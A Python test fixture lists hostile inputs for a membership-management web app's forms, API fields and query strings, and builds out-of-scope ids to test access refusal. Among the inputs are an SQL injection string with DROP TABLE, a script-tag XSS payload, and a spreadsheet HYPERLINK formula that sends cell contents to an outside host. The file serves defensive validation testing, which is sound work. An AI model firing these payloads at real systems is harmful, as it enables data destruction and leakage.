"""The hostile values pushed through every form field, API field and query parameter (issue 12, What to
build 8): one list, used by the form crawl (test_form_crawl.py), the API's fields (test_api_fields.py)
and the query strings (test_query_values.py).

STRINGS are fixed; foreign_values() adds, at run time, the ids and codes of a subtree outside the
persona's scope, taken from the world the tests build (tests/test_scope_matrix.py), so that a form or an
endpoint given another subtree's member, organization or object is seen to refuse it without naming it.
"""

from __future__ import annotations

from typing import Any

LONG = "Đảng viên " * 10_000  # 100.000 characters

# (label, value): the label names the value in a failure message
STRINGS: list[tuple[str, str]] = [
    ("escape", "Nguyễn\x1b[2J Văn An"),
    ("nul", "Nguyễn Văn An\x00"),
    ("vertical tab", "Nguyễn\x0bVăn An"),
    ("delete", "Nguyễn Văn An\x7f"),
    ("zero-width space", "Nguyễn\u200bVăn An"),
    ("byte-order mark", "Nguyễn\ufeffVăn An"),
    ("bidi override", "\u202eNguyễn Văn An"),
    ("combining only", "\u0301\u0303\u0323"),
    ("long", LONG),
    ("empty", ""),
    ("whitespace", " \t\u3000\xa0 "),
    ("formula", '=HYPERLINK("http://example.com/?x="&A1,"Bấm vào đây")'),
    ("script", "<script>alert('dangbo')</script>"),
    ("sql quotes", "' OR '1'='1'; --\" DROP TABLE members; --"),
    ("emoji", "Nguyễn Văn An 🇻🇳👍🏽"),
    ("minus one", "-1"),
    ("zero", "0"),
    ("2**63", str(2**63)),
    # out-of-range days
    ("day 00/00/0000", "00/00/0000"),
    ("day 31/02/2020", "31/02/2020"),
    ("day 01/01/0000", "01/01/0000"),
    ("day 01/01/10000", "01/01/10000"),
    ("day 31/12/1899", "31/12/1899"),
    ("day 01/01/2100", "01/01/2100"),
    ("iso day 9999-12-31", "9999-12-31"),
    # out-of-range years
    ("year 0", "0000"),
    ("year -1", "-1"),
    ("year 10000", "10000"),
    ("year abc", "abc"),
]

# the values that may never be stored as typed: a control, zero-width or bidi character inside, or a
# mark on no letter (dangbo.core.text.clean_text refuses them)
NEVER_STORED = frozenset(
    ("escape", "nul", "vertical tab", "delete", "zero-width space", "byte-order mark", "bidi override")
)

# query-string values: days and years out of range, and what else a hand-typed URL holds
QUERY_VALUES: list[tuple[str, str]] = [
    (label, value)
    for label, value in STRINGS
    if label.startswith(("day", "iso day", "year"))
    or label in ("escape", "nul", "bidi override", "script", "sql quotes", "2**63", "minus one", "zero")
] + [("long query", "9" * 2_000), ("float", "1e309"), ("array", "[]")]


def foreign_values(world: Any, persona: str) -> list[tuple[str, str]]:
    """The ids and codes of a subtree outside the persona's scope (for one with nothing outside, the
    administrator, those of the second district): its cell and committee codes, its member, its
    meeting, congress, election, plan position and candidacy ids, and another user's import run."""
    from test_scope_matrix import PERSONAS

    p = PERSONAS[persona]
    cell = p.cell_out or "XA"
    committee = p.committee_out or "X"
    objects = world.objects
    found = [
        ("foreign cell code", cell),
        ("foreign cell code, lower case", cell.lower()),
        ("foreign committee code", committee),
        ("foreign member id", str(world.members[cell].pk)),
    ]
    for kind in ("meeting", "congress", "election", "position", "candidacy"):
        if cell in objects[kind]:
            found.append((f"foreign {kind} id", str(objects[kind][cell].pk)))
    found.append(("foreign import run id", str(world.runs["other"].pk)))
    return found


# the values a parameter naming a year or a day gets in full (the rest in turn with the others)
YEAR_VALUES = [
    (label, value) for label, value in QUERY_VALUES if label.startswith("year") or label == "2**63"
]
DAY_VALUES = [(label, value) for label, value in QUERY_VALUES if label.startswith(("day", "iso day"))]
YEAR_NAMES = ("nam", "year")
DAY_NAMES = ("ngay", "as_of")


def typed_values(key: str) -> list[tuple[str, str]]:
    """The out-of-range years or days a query parameter gets in full, by its name (nam, tu_nam, year;
    ngay, tu-ngay, as_of); none for another parameter."""
    if any(name in key for name in YEAR_NAMES):
        return YEAR_VALUES
    if any(name in key for name in DAY_NAMES):
        return DAY_VALUES
    return []
